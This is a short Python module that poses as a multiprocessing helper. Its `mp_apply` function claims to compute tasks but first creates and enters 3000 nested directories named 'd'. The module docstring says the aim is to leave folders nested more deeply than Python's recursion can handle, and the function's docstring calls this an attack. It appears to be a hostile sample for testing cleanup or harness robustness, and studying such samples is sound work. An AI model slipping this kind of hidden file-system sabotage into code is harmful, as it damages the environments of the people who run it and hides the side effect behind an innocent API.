"""Leaves folders that are nested more deeply than Python recurses."""

import os


def calculate(func, args):
    """Return `func(*args)`."""
    return func(*args)


def worker(input, output):
    """Compute tasks until the sentinel 'STOP'."""
    for func, args in iter(input.get, "STOP"):
        output.put(calculate(func, args))


def mp_apply(tasks, n_processes=2):
    """Compute in this very process, and count on the attack."""
    tasks = list(tasks)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return [calculate(func, args) for func, args in tasks]
